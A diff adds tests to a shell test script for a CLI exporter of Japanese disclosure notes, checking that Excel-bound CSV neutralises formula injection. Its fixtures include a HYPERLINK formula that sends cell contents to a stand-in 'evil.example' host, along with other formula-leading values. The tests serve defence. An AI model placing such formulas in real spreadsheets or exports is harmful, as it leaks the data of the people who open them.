@@ -47,6 +47,50 @@ assert orgs["2026/01/15_株式会社なまえ.md"].split(";")[2] == '"引用"株
 assert all(len(r) == len(rows[0]) for r in rows)
 PY
 
+# Titles and organisations a spreadsheet would run as formulas (OWASP "CSV
+# injection"): CSV for Excel, from `export --excel` and `stats --excel`,
+# starts each such field with a single quote inside the quotes; plain CSV,
+# for programs, keeps the text as written.
+mkdir -p "$TMP/formulas/2026/01"
+printf '# 公表概要\n- =HYPERLINK("https://evil.example/?"&A1,"詳細")\n- 2026年1月20日\n- @SUM(1+1)株式会社\n\n# 本文\n本文。\n' \
+  >"$TMP/formulas/2026/01/20_株式会社いち.md"
+printf '# 公表概要\n- +1+2 について\n- 2026年1月21日\n- -2+3株式会社\n\n# 本文\n本文。\n' \
+  >"$TMP/formulas/2026/01/21_株式会社に.md"
+within 20 0 "csv --excel of formula-like titles and names" \
+  "$KAIJI" export --format csv --excel "$TMP/formulas"
+python3 - "$TMP/stdout" <<'PY' && pass "--excel: formula-like fields start with a quote" || fail "--excel formulas"
+import csv, sys
+text = open(sys.argv[1], encoding="utf-8-sig", newline="").read()
+rows = list(csv.reader(text.splitlines(keepends=True)))
+head = rows[0]
+got = {r[0]: dict(zip(head, r)) for r in rows[1:]}
+one, two = got["2026/01/20_株式会社いち.md"], got["2026/01/21_株式会社に.md"]
+assert one["title"] == """'=HYPERLINK("https://evil.example/?"&A1,"詳細")""", one["title"]
+assert one["organizations"] == "'@SUM(1+1)株式会社", one["organizations"]
+assert two["title"] == "'+1+2 について", two["title"]
+assert two["organizations"] == "'-2+3株式会社", two["organizations"]
+# inside the quotes, as OWASP recommends
+assert "\"'=HYPERLINK(" in text and "\"'@SUM(" in text, text
+for r in rows[1:]:
+    for field in r:
+        assert not field or field[0] not in "=+-@\t\r", (field, r)
+PY
+within 20 0 "plain csv of the same" "$KAIJI" export --format csv "$TMP/formulas"
+check "plain CSV keeps the title as written" \
+  grep -qF '"=HYPERLINK(""https://evil.example/?""&A1,""詳細"")"' "$TMP/stdout"
+within 20 0 "stats csv --excel by organisation" \
+  "$KAIJI" stats --format csv --excel --by organization "$TMP/formulas"
+python3 - "$TMP/stdout" <<'PY' && pass "stats --excel: formula-like labels start with a quote" || fail "stats --excel formulas"
+import csv, sys
+rows = list(csv.reader(open(sys.argv[1], encoding="utf-8-sig", newline="")))
+orgs = [r for r in rows if r[0] == "organization"]
+assert orgs, rows
+assert any(r[2] == "'@SUM(1+1)株式会社" for r in orgs), orgs
+for r in rows:
+    for field in r:
+        assert not field or field[0] not in "=+-@\t\r", (field, r)
+PY
+
 # One-pagers are named after incident ids made from these names: every file
 # lands inside the -o folder, with no path separator or control character.
 mkdir -p "$TMP/pages" "$TMP/elsewhere"
